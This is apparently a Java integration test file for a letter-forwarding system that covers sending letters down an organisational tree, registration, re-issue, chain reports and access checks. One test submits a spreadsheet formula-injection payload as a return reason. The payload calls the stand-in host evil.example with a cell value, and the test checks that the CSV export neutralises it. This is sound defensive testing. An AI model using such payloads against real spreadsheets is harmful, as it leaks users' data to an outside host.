package org.letterflow.forwarding;

import static org.letterflow.it.Sendings.send;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.io.StringReader;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.letterflow.document.SpreadsheetText;
import org.junit.jupiter.api.Test;
import org.letterflow.it.Api;
import org.letterflow.it.DeployedApplication;

/** Forwarding through the API: sending down the tree, the recipients' side, re-issue, the chain. */
class ForwardingApiIT extends DeployedApplication {

    private long registeredOutgoing(Api clerk, String subject) {
        Api.Reply created = clerk.post("api/v1/letters", """
                {"direction": "OUTGOING", "subject": "%s", "register": true,
                 "addressees": "Руководителям органов исполнительной власти субъектов Российской Федерации"}
                """.formatted(subject));
        assertEquals(201, created.status(), created.body());
        return created.json().getJsonNumber("id").longValue();
    }

    /** Schools below Tomsk now: other tests add some, so the count is read, not assumed. */
    static int schoolsBelowTomsk(Api tomsk) {
        return (int) tomsk.get("api/v1/organisations").array().stream().map(JsonValue::asJsonObject)
                .filter(o -> o.getString("kind").equals("SCHOOL")).count();
    }

    /** Regions below the ministry now: other tests add some (a roll-up subtree), so the count is read too. */
    static int regionsBelowMinistry(Api ministry) {
        return ministry.get("api/v1/organisations?parent=1").array().size();
    }

    private static long deliveryOf(Api clerk, long letter) {
        return clerk.get("api/v1/deliveries?state=DELIVERED&limit=100").json().getJsonArray("items").stream()
                .map(JsonValue::asJsonObject).filter(d -> d.getJsonNumber("letter").longValue() == letter)
                .findFirst().orElseThrow(() -> new AssertionError("no delivery of letter " + letter))
                .getJsonNumber("id").longValue();
    }

    @Test
    void aLetterGoesDownTheTreeIsRegisteredReissuedAndTheChainShowsIt() throws Exception {
        Api ministry = Api.as(base, "minpros.clerk", "demo");
        Api tomsk = Api.as(base, "tomsk.clerk", "demo");
        Api irkutsk = Api.as(base, "irkutsk.clerk", "demo");
        Api school = Api.as(base, "school.clerk", "demo");
        long letter = registeredOutgoing(ministry, "Об информационном взаимодействии (цепочка)");
        assertEquals(201, ministry.upload("api/v1/letters/" + letter + "/attachments", "приложение.txt",
                "Перечень ответственных лиц".getBytes(StandardCharsets.UTF_8)).status());
        String number = ministry.get("api/v1/letters/" + letter).json().getString("registrationNumber");

        int regions = regionsBelowMinistry(ministry);
        assertTrue(regions >= 3, "Tomsk, Irkutsk and Tatarstan at least");
        JsonObject job = send(ministry, letter, "{\"subordinates\": true}");
        assertEquals("DONE", job.getString("state"), job.toString());
        assertEquals(regions, job.getInt("total"), "every region below the ministry");
        assertEquals(regions, job.getInt("delivered"));
        assertEquals("SENT", ministry.get("api/v1/letters/" + letter).json().getString("state"));
        JsonObject again = send(ministry, letter, "{\"recipients\": [2]}");
        assertEquals(0, again.getInt("delivered"), "the same organisation twice keeps one delivery");

        long tomskDelivery = deliveryOf(tomsk, letter);
        JsonObject seen = tomsk.get("api/v1/deliveries/" + tomskDelivery).json();
        assertEquals("Об информационном взаимодействии (цепочка)", seen.getJsonObject("letter").getString("subject"));
        long file = seen.getJsonObject("letter").getJsonArray("attachments").getJsonObject(0).getJsonNumber("id").longValue();
        assertEquals(200, tomsk.download("api/v1/deliveries/" + tomskDelivery + "/attachments/" + file + "/content").statusCode());
        irkutsk.get("api/v1/deliveries/" + tomskDelivery).refused(404, "не найден"); // another region's delivery
        school.get("api/v1/deliveries/" + tomskDelivery).refused(404, "не найден");

        Api.Reply registered = tomsk.post("api/v1/deliveries/" + tomskDelivery + "/registration", "{}");
        assertEquals(201, registered.status(), registered.body());
        JsonObject incoming = registered.json();
        assertEquals("INCOMING", incoming.getString("direction"));
        assertEquals(number, incoming.getString("correspondentNumber"), "the ministry's number is Tomsk's 'их номер'");
        assertEquals(1, incoming.getJsonArray("attachments").size(), "the file came along");
        tomsk.post("api/v1/deliveries/" + tomskDelivery + "/registration", "{}").refused(409, "Письмо уже зарегистрировано");

        Api.Reply reissued = tomsk.post("api/v1/letters/" + incoming.getJsonNumber("id") + "/reissue", "");
        assertEquals(201, reissued.status(), reissued.body());
        JsonObject cover = reissued.json();
        String date = DateTimeFormatter.ofPattern("dd.MM.yyyy").format(LocalDate.parse(
                ministry.get("api/v1/letters/" + letter).json().getString("registrationDate")));
        assertTrue(cover.getString("summary").startsWith("В соответствии с письмом Минпросвещения России от " + date
                + " № " + number), cover.getString("summary"));
        assertEquals(1, cover.getJsonArray("attachments").size());
        long coverId = cover.getJsonNumber("id").longValue();
        tomsk.post("api/v1/letters/" + coverId + "/deliveries", "{\"subordinates\": true}")
                .refused(409, "Отправить можно только зарегистрированное исходящее письмо"); // not a draft
        assertEquals(200, tomsk.post("api/v1/letters/" + coverId + "/registration", "").status());
        int schools = schoolsBelowTomsk(tomsk);
        JsonObject down = send(tomsk, coverId, "{\"recipients\": [3], \"descendantsOfKind\": \"SCHOOL\"}");
        assertEquals(1 + schools, down.getInt("total"), "the city department and every school below Tomsk");

        long schoolDelivery = deliveryOf(school, coverId);
        school.post("api/v1/deliveries/" + schoolDelivery + "/acknowledgement", "").refused(409, "Сначала зарегистрируйте письмо");
        assertEquals(201, school.post("api/v1/deliveries/" + schoolDelivery + "/registration", "{}").status());
        Api.Reply acknowledged = school.post("api/v1/deliveries/" + schoolDelivery + "/acknowledgement", "");
        assertEquals("ACKNOWLEDGED", acknowledged.json().getString("state"), acknowledged.body());

        long irkutskDelivery = deliveryOf(irkutsk, letter);
        Api.Reply noReason = irkutsk.post("api/v1/deliveries/" + irkutskDelivery + "/return", "{\"reason\": \" \"}");
        noReason.refusedField(400, "reason", "Укажите причину возврата");
        assertEquals("RETURNED", irkutsk.post("api/v1/deliveries/" + irkutskDelivery + "/return",
                "{\"reason\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1;\\\"Направлено не по адресу\\\")\"}")
                .json().getString("state"), "a reason another organisation typed, meant for the ministry's spreadsheet");

        Api.Reply chainReply = ministry.get("api/v1/letters/" + letter + "/chain");
        assertEquals(200, chainReply.status(), chainReply.body());
        JsonObject chain = chainReply.json();
        JsonObject total = chain.getJsonObject("total");
        assertEquals(regions + 1 + schools, total.getInt("received"), "the regions, then Tomsk's");
        assertEquals(2, total.getInt("registered"), "Tomsk and its school");
        assertEquals(1, total.getInt("acknowledged"));
        assertEquals(1, total.getInt("returned"));
        assertEquals(regions, chain.getJsonArray("nodes").size());
        JsonObject tomskNode = chain.getJsonArray("nodes").stream().map(JsonValue::asJsonObject)
                .filter(n -> n.getJsonNumber("delivery").longValue() == tomskDelivery).findFirst().orElseThrow();
        assertEquals(incoming.getString("registrationNumber"), tomskNode.getString("registrationNumber"));
        assertEquals(1 + schools, tomskNode.getInt("children"));
        assertEquals(2 + schools, tomskNode.getJsonObject("below").getInt("received"), "Tomsk and those below it");
        assertTrue(chain.getJsonArray("levels").stream().map(JsonValue::asJsonObject)
                .anyMatch(l -> l.getString("kind").equals("SCHOOL") && l.getJsonObject("counts").getInt("received") == schools));

        List<JsonObject> below = ministry.get("api/v1/letters/" + letter + "/chain?node=" + tomskDelivery).json()
                .getJsonArray("nodes").stream().map(JsonValue::asJsonObject).toList();
        assertEquals(1 + schools, below.size());
        assertTrue(below.stream().anyMatch(n -> n.getJsonNumber("delivery").longValue() == schoolDelivery
                && n.getString("state").equals("ACKNOWLEDGED") && n.containsKey("registrationNumber")), below.toString());

        JsonObject tomskPart = tomsk.get("api/v1/letters/" + incoming.getJsonNumber("id") + "/chain").json();
        assertEquals(2 + schools, tomskPart.getJsonObject("total").getInt("received"), "a region sees its own part");
        school.get("api/v1/letters/" + letter + "/chain").refused(404, "не найден");

        var csv = ministry.download("api/v1/letters/" + letter + "/chain.csv");
        assertEquals(200, csv.statusCode());
        String text = new String(csv.body(), StandardCharsets.UTF_8);
        assertEquals(1 + regions + 1 + schools, text.lines().count(), text);
        assertTrue(text.contains(incoming.getString("registrationNumber")), text);
        List<CSVRecord> records = CSVFormat.EXCEL.builder().setDelimiter(';').get()
                .parse(new StringReader(text.substring(1))).getRecords();
        assertTrue(records.stream().flatMap(CSVRecord::stream).noneMatch(SpreadsheetText::startsFormula),
                "no cell starts a formula: " + text);
        assertTrue(records.stream().flatMap(CSVRecord::stream).anyMatch(c -> c.startsWith("'=HYPERLINK(")),
                "the reason is kept, as text: " + text);
    }

    @Test
    void badRecipientsSendNothing() {
        Api tomsk = Api.as(base, "tomsk.clerk", "demo");
        Api ministry = Api.as(base, "minpros.clerk", "demo");
        long letter = registeredOutgoing(tomsk, "О проведении мониторинга (проверка получателей)");
        Api.Reply outside = tomsk.post("api/v1/letters/" + letter + "/deliveries", "{\"recipients\": [4, 8]}");
        assertEquals(403, outside.status(), outside.body());
        assertTrue(outside.body().contains("МБОУ г. Иркутска СОШ № 19"), outside.body());
        assertEquals(0, tomsk.get("api/v1/letters/" + letter + "/chain").json().getJsonObject("total").getInt("received"),
                "nothing sent to anyone, not even the school that was in reach");
        assertEquals("REGISTERED", tomsk.get("api/v1/letters/" + letter).json().getString("state"));
        tomsk.post("api/v1/letters/" + letter + "/deliveries", "{}").refusedField(400, "recipients", "Укажите получателей");
        tomsk.post("api/v1/letters/" + letter + "/deliveries", "{\"recipients\": [999999]}")
                .refusedField(400, "recipients", "Организации с кодом 999999 нет в справочнике");
        assertEquals(403, tomsk.post("api/v1/letters/" + letter + "/deliveries", "{\"recipients\": [2]}").status(),
                "not to itself");
        tomsk.post("api/v1/letters/" + letter + "/deliveries", "{\"descendantsOfKind\": \"MINISTRY\"}")
                .refusedField(400, "recipients", "Под вашей организацией нет организаций такого вида");
        Api.Reply past = tomsk.post("api/v1/letters/" + letter + "/deliveries", "{\"subordinates\": true, \"dueOn\": \"2020-01-01\"}");
        past.refusedField(400, "dueOn", "Срок исполнения не может быть в прошлом");
        // another organisation's letter
        ministry.post("api/v1/letters/" + letter + "/deliveries", "{\"subordinates\": true}").refused(404, "не найден");
        tomsk.post("api/v1/letters/" + letter + "/deliveries", "{\"lists\": [999999]}")
                .refusedField(400, "lists", "Список рассылки не найден");
        JsonObject job = send(tomsk, letter, "{\"subordinates\": true}");
        ministry.get("api/v1/jobs/" + job.getJsonNumber("id")).refused(404, "не найден"); // a job is its sender's
    }

    @Test
    void anAllowedCorrespondentOutsideTheSubtreeCanBeSentTo() {
        Api tomsk = Api.as(base, "tomsk.clerk", "demo");
        Api admin = Api.as(base, "admin", "demo");
        long letter = registeredOutgoing(tomsk, "Об обмене опытом (соседний регион)");
        assertEquals(403, tomsk.post("api/v1/letters/" + letter + "/deliveries", "{\"recipients\": [7]}").status());
        assertEquals(403, tomsk.put("api/v1/allowed-correspondents/2/7", "", null).status(), "administrators allow");
        assertEquals(204, admin.put("api/v1/allowed-correspondents/2/7", "", null).status());
        assertTrue(admin.get("api/v1/allowed-correspondents/2").array().stream()
                .anyMatch(o -> o.asJsonObject().getInt("id") == 7));
        assertEquals(1, send(tomsk, letter, "{\"recipients\": [7]}").getInt("delivered"));
        assertEquals(204, admin.delete("api/v1/allowed-correspondents/2/7").status());
        assertEquals(403, tomsk.post("api/v1/letters/" + letter + "/deliveries", "{\"recipients\": [7]}").status());
    }

    @Test
    void savedListsAreTheOrganisationsOwnAndWithinReach() {
        Api tomsk = Api.as(base, "tomsk.clerk", "demo");
        Api irkutsk = Api.as(base, "irkutsk.clerk", "demo");
        String name = "Школы города " + System.nanoTime();
        Api.Reply created = tomsk.post("api/v1/distribution-lists", "{\"name\": \"" + name + "\", \"members\": [4, 5]}");
        assertEquals(201, created.status(), created.body());
        long list = created.json().getJsonNumber("id").longValue();
        assertEquals(2, created.json().getJsonArray("members").size());
        // names are unique whatever their case
        tomsk.post("api/v1/distribution-lists", "{\"name\": \"" + name.toUpperCase() + "\", \"members\": [4]}").refused(409, "уже есть");
        assertEquals(403, tomsk.post("api/v1/distribution-lists", "{\"name\": \"Чужие\", \"members\": [8]}").status());
        tomsk.post("api/v1/distribution-lists", "{\"name\": \" \", \"members\": [4]}").refusedField(400, "name", "Укажите название списка");
        long letter = registeredOutgoing(tomsk, "О пилотном проекте (список рассылки)");
        irkutsk.post("api/v1/letters/" + registeredOutgoing(irkutsk, "Чужой список") + "/deliveries",
                "{\"lists\": [" + list + "]}").refusedField(400, "lists", "Список рассылки не найден в вашей организации");
        JsonObject job = send(tomsk, letter, "{\"lists\": [" + list + "], \"recipients\": [4]}");
        assertEquals(2, job.getInt("total"), "each organisation once");
        assertTrue(irkutsk.get("api/v1/distribution-lists").array().stream()
                .noneMatch(l -> l.asJsonObject().getJsonNumber("id").longValue() == list), "lists are not shared");
        irkutsk.delete("api/v1/distribution-lists/" + list).refused(404, "не найден");

        assertEquals(204, tomsk.delete("api/v1/distribution-lists/" + list).status());
    }
}
